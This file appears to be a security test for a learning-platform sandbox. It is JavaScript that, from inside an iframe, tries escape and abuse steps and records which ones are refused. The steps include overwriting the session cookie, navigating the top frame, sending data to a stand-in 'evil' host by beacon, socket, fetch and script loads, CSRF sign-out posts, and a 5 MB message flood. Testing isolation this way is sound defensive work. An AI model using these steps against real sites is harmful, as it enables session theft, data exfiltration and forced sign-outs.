window.attack = async function (known) {
  var found = {};
  var heard = [];
  window.addEventListener('message', function (event) { heard.push(String(event.data)); });
  function name(error) { return (error && error.name) || String(error); }
  function sync(title, step) { try { found[title] = String(step()); } catch (error) { found[title] = 'refused ' + name(error); } }
  async function later(title, step) {
    try { found[title] = String(await Promise.race([step(), wait(4000).then(function () { return 'nothing'; })])); }
    catch (error) { found[title] = 'refused ' + name(error); }
  }
  function wait(ms) { return new Promise(function (done) { setTimeout(done, ms); }); }
  function element(tag, values) {
    return new Promise(function (done) {
      var made = document.createElement(tag);
      made.onload = function () { done('loaded'); };
      made.onerror = function () { done('refused error'); };
      Object.assign(made, values);
      document.body.appendChild(made);
    });
  }

  sync('origin', function () { return window.origin; });
  sync('read cookie', function () { return document.cookie; });
  sync('set cookie', function () { document.cookie = 'hub_session=evil; path=/'; document.cookie = 'hub_session=evil; domain=localhost'; return 'set'; });
  sync('own storage', function () { return window.localStorage.length; });
  sync('hub storage', function () { return window.top.localStorage.length; });
  sync('hub document', function () { return window.top.document.title; });
  sync('hub address', function () { return window.top.location.href; });
  sync('hub function', function () { return window.top.eval('1'); });
  sync('opener', function () { return window.opener; });
  sync('navigate top', function () { window.top.location.href = known.evil + '/top'; return 'went'; });
  sync('popup', function () { return window.open(known.evil + '/popup'); });
  sync('beacon', function () { return navigator.sendBeacon(known.evil + '/beacon', 'secret'); });
  sync('socket', function () { new WebSocket(known.evil.replace('http', 'ws') + '/socket'); return 'made'; });
  sync('events', function () { new EventSource(known.evil + '/events'); return 'made'; });
  await later('fetch hub', function () { return fetch(known.hub + '/me', { credentials: 'include' }).then(function (r) { return r.text(); }); });
  await later('fetch hub blind', function () { return fetch(known.hub + '/me', { credentials: 'include', mode: 'no-cors' }).then(function (r) { return r.type; }); });
  await later('post hub', function () {
    return fetch(known.hub + '/sign-out', { method: 'POST', credentials: 'include', mode: 'no-cors', body: new URLSearchParams({ csrf_token: 'x' }) })
      .then(function (r) { return r.type; });
  });
  await later('fetch evil', function () { return fetch(known.evil + '/fetch', { mode: 'no-cors' }).then(function (r) { return r.type; }); });
  await later('request evil', function () {
    return new Promise(function (done, fail) {
      var asked = new XMLHttpRequest(); asked.open('GET', known.evil + '/xhr'); asked.onload = function () { done('loaded'); }; asked.onerror = fail; asked.send();
    });
  });
  await later('picture evil', function () { return element('img', { src: known.evil + '/picture' }); });
  await later('script evil', function () { return element('script', { src: known.evil + '/script' }); });
  await later('script hub', function () { return element('script', { src: known.hub + '/me' }); });
  await later('style evil', function () { return element('link', { rel: 'stylesheet', href: known.evil + '/style' }); });
  await later('prefetch evil', function () { return element('link', { rel: 'prefetch', href: known.evil + '/prefetch' }); });
  await later('worker', function () {
    if (!navigator.serviceWorker) return 'refused none';
    return navigator.serviceWorker.register('sw.js').then(function () { return 'registered'; });
  });
  await later('place', function () {
    return new Promise(function (done, fail) { navigator.geolocation.getCurrentPosition(function () { done('told'); }, function (e) { fail(new Error('denied')); }); });
  });
  await later('other package', function () { return fetch(known.other).then(function (r) { return r.text(); }); });
  await later('other picture', function () { return element('img', { src: known.otherPicture }); });
  for (var path of known.paths) await later('path ' + path, (function (one) {
    return function () { return fetch(one).then(function (r) { return r.status < 400 ? r.text() : 'refused ' + r.status; }); };
  })(path));
  await later('frame hub', async function () {
    var frame = document.createElement('iframe'); frame.src = known.hub + '/'; document.body.appendChild(frame); await wait(800);
    return frame.contentDocument ? frame.contentDocument.title : 'refused foreign';
  });
  var form = document.createElement('form'); form.method = 'post'; form.action = known.hub + '/sign-out'; form.target = 'sink';
  var sink = document.createElement('iframe'); sink.name = 'sink'; document.body.appendChild(sink); document.body.appendChild(form);
  sync('form', function () { form.submit(); return 'sent'; });
  var top_form = document.createElement('form'); top_form.method = 'post'; top_form.action = known.hub + '/sign-out'; top_form.target = '_top';
  document.body.appendChild(top_form);
  sync('form top', function () { top_form.submit(); return 'sent'; });
  for (var disguised of known.disguised) {
    var frame = document.createElement('iframe'); frame.src = known.files + disguised; document.body.appendChild(frame);
  }
  for (var message of known.messages) {
    window.parent.postMessage(message, '*'); window.top.postMessage(message, '*');
    if (window.top.frames[0]) window.top.frames[0].postMessage(message, '*');
  }
  window.top.postMessage({ protocol: 'hoclieu/package/1', type: 'report', report: 'x'.repeat(5000000) }, '*');
  await wait(1200);
  found['heard'] = heard.filter(function (one) { return one.indexOf('fired') === 0; }).join(',');
  return found;
};
